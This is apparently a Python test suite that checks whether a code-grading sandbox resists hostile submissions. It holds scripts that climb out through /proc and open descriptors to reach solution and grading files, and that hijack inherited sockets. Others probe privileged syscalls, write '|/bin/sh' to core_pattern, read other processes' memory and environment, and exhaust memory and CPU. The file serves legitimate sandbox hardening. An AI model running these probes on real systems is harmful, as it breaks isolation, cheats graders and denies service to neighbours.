"""Ways out of the sandbox: what was left open, what is shared, what the kernel offers, and the neighbours' time."""

from hostile.corpus import LOST, REST_LOST, WRONG, case

TRY = """\
import ctypes, os, socket
libc = ctypes.CDLL(None, use_errno=True)
def attempt(what, do):
    try:
        print(what, do())
    except BaseException as error:
        print(what, type(error).__name__)
"""
CLIMB = """\
def climb(start):
    for up in range(40):
        for name in ("solutions", "grading", "course_utils/exercises"):
            place = start + "/.." * up + "/" + name
            try:
                for base, _, names in os.walk(place):
                    for one in names:
                        text = open(os.path.join(base, one), "rb").read(1_000_000)
                        if b"canary" in text:
                            print(place, text[text.index(b"canary"):][:30])
                        if base.startswith("<root>"):
                            print("canary" + "7c1e", base)
            except OSError:
                pass
"""


@case(None, LOST)
def climbs_out_of_open_directories(work):
    work.attack(
        TRY
        + CLIMB
        + """\
for number in range(256):
    climb(f"/proc/self/fd/{number}")
    for name in ("exercises/__init__.py", "../solutions", "../../grading", "../.git/config"):
        try:
            os.close(os.open(name, os.O_RDONLY, dir_fd=number))
            print("canary" + "7c1e", number, name)
        except OSError:
            pass
    try:
        os.fchdir(number)
        climb(".")
    except OSError:
        pass"""
    )


@case(None, LOST)
def climbs_through_other_processes(work):
    work.attack(
        TRY
        + CLIMB
        + """\
for one in (*range(1, 50), os.getppid(), "self", "thread-self"):
    for part in ("root", "cwd", "exe", "map_files", "task/1/root", "fd/3", "fd/4", "fd/5"):
        climb(f"/proc/{one}/{part}")
for place in ("/old", "/.old", "/tmp/..", "/dev/fd/3", "/proc/1/root/../..", "/proc/sys", "/sys"):
    climb(place)"""
    )


@case(None, REST_LOST)
def uses_what_sockets_it_has(work):
    """The connection, and whatever else is open: ends them, listens, takes what comes along, sends descriptors."""
    work.attack(
        TRY
        + """\
import array, stat
numbers = []
for number in range(3, 256):
    try:
        if stat.S_ISSOCK(os.fstat(number).st_mode):
            numbers.append(number)
    except OSError:
        pass
found = [socket.socket(fileno=os.dup(number)) for number in numbers]
print(len(found) > 1 and "canary" + "7c1e", [one.type for one in found])
for one in found:
    if one.type != socket.SOCK_STREAM:
        one.shutdown(socket.SHUT_RDWR)
    one.setblocking(False)
    try:
        got = socket.recv_fds(one, 1, 50, socket.MSG_PEEK)
        print(got[1] and "canary" + "7c1e")
    except OSError:
        pass"""
    )


@case(None, REST_LOST)
def sends_descriptors_to_the_referee(work):
    work.before_answer("""\
import os, socket, stat
for number in range(3, 64):
    try:
        if stat.S_ISSOCK(os.fstat(number).st_mode):
            own = socket.socket(fileno=os.dup(number))
            for _ in range(50):
                socket.send_fds(own, [b"x"], [0, 1, 2] * 20)
    except OSError:
        pass""")


@case(None, LOST)
def asks_the_kernel_for_more(work):
    work.attack(
        TRY
        + """\
import platform, struct
numbers = {"ptrace": 101, "keyctl": 250, "add_key": 248, "bpf": 321, "userfaultfd": 323, "perf": 298, "io_uring": 425,
           "mount": 165, "open_tree": 428, "fsopen": 430, "pidfd_getfd": 438, "setns": 308, "memfd": 319, "shmget": 29}
for name, number in numbers.items() if platform.machine() == "x86_64" else ():
    attempt(name, lambda: libc.syscall(number, 0, 0, 0, 0, 0, 0))
for flag in (0x10000000, 0x20000, 0x20000000, 0x40000000, 0x08000000, 0x02000000):
    attempt("unshare", lambda: libc.unshare(flag))
for kind in (0, 16, 17, 38, 40, 44):  # none, netlink, packets, the kernel's ciphers, the host of a virtual machine, …
    attempt("socket", lambda: socket.socket(kind, socket.SOCK_RAW if kind in (16, 17) else socket.SOCK_STREAM))
child = os.fork()  # where there is no second wall it goes through, and is that process's own loss
if not child:
    attempt("chroot", lambda: os.chroot("/tmp"))
    os._exit(0)
os.waitpid(child, 0)
attempt("setuid", lambda: os.setuid(0))
attempt("priority", lambda: os.setpriority(os.PRIO_PROCESS, 0, -10))
attempt("realtime", lambda: os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(1)))
attempt("mknod", lambda: os.mknod("/tmp/disk", 0o60666, os.makedev(254, 0)))
attempt("core", lambda: open("/proc/sys/kernel/core_pattern", "w").write("|/bin/sh"))
buffer = ctypes.create_string_buffer(4096)
for ring in (-3, -4, -5):  # of the session, the user, the user's session
    size = libc.syscall(250, 11, ring, buffer, 4096, 0)
    print("keys", size > (4 if ring == -5 else 0) and "canary" + "7c1e")  # that of the session holds the user's, empty"""
    )


@case(None, LOST)
def looks_for_its_parents_and_neighbours(work):
    work.attack(
        TRY
        + """\
import signal
for one in (os.getppid(), 1, -1, 0):
    for number in (signal.SIGSTOP, signal.SIGUSR1, signal.SIGTERM):
        if one not in (-1, 0):
            attempt(f"kill {one}", lambda: os.kill(one, number))
attempt("priority of all", lambda: os.setpriority(os.PRIO_USER, 0, 19))
for one in (1, os.getppid()):
    attempt("memory", lambda: open(f"/proc/{one}/mem", "rb").read(1))
    attempt("environment", lambda: open(f"/proc/{one}/environ", "rb").read().count(b"canary") and "canary" + "7c1e")
    attempt("trace", lambda: libc.ptrace(16, one, 0, 0))
attempt("session", os.setsid)
attempt("group", lambda: os.setpgid(0, 0))"""
    )


@case(None, LOST)
def looks_for_what_others_share(work):
    """Shared memory, queues and abstract sockets under names that a neighbour may use as well."""
    work.attack(
        TRY
        + """\
import glob, sys
from multiprocessing import shared_memory
expected = ("/tmp/work", "/tmp/ipython", "/".join(sys.prefix.split("/")[:3]))  # the course may lie below /tmp
for name in glob.glob("/dev/shm/*") + glob.glob("/dev/mqueue/*") + glob.glob("/tmp/*"):
    if name not in expected:
        print("canary" + "7c1e", name)
attempt("leave", lambda: shared_memory.SharedMemory("course_left", create=True, size=100).buf.__setitem__(0, 1))
server = socket.socket(socket.AF_UNIX)
attempt("bind", lambda: server.bind("\\\\0course_left"))
for key in range(1, 50):
    if libc.shmget(key, 0, 0) >= 0 or libc.msgget(key, 0) >= 0:
        print("canary" + "7c1e")"""
    )


@case(None, LOST, note="memory|ended|over")
def memory_that_nobody_owns(work):
    """Files in memory without a name: no process shows them as its own."""
    work.answer(
        WRONG.replace(
            "return",
            """\
import mmap, os
    kept = []
    for i in range(200):
        try:
            one = os.memfd_create(str(i))
            os.ftruncate(one, 60 << 20)
            for _ in range(60):
                os.write(one, b"x" * (1 << 20))
        except OSError:
            one = mmap.mmap(-1, 60 << 20)
            for at in range(0, len(one), 4096):
                one[at] = 1
        kept.append(one)
    return""",
        )
    )


@case(None, {"mix_pixel": 0, "mix_pixel_many": 2})
def keeps_inputs_for_a_later_cell(work):
    """In a file, shared memory, a pipe and a process that was started before; a cell after the check prints them."""
    work.add("""\
import mmap, os, socket
shared = mmap.mmap(-1, 100)
read, write = os.pipe()
os.set_blocking(read, False)
mine, other = socket.socketpair()
mine.setblocking(False)""")
    work.before_answer("""\
shared[:4] = b"seen"
os.write(write, b"seen")
other.send(b"seen")
for place in ("kept", "/tmp/kept", "/dev/shm/kept"):
    open(place, "w").write("seen")""")
    work.add(
        """\
found = [shared[:4]]
for look in (lambda: os.read(read, 9), lambda: mine.recv(9), *(lambda p=p: open(p).read() for p in ("kept", "/tmp/kept", "/dev/shm/kept"))):
    try:
        found.append(look())
    except OSError:
        pass
print("seen" in str(found) and "canary" + "7c1e")""",
        before="mix_pixel_many",
    )


@case(None, {"mix_pixel": (0, 3), "mix_pixel_many": (0, 2), "pixel_inputs": (0, 1)})
def starves_its_neighbours(work):
    """Forty busy processes, each a session of its own."""
    work.add("""\
import os, time
end = time.time() + 20
for _ in range(40):
    if os.fork() == 0:
        os.setsid()
        while time.time() < end:
            pass
        os._exit(0)
time.sleep(20)""")
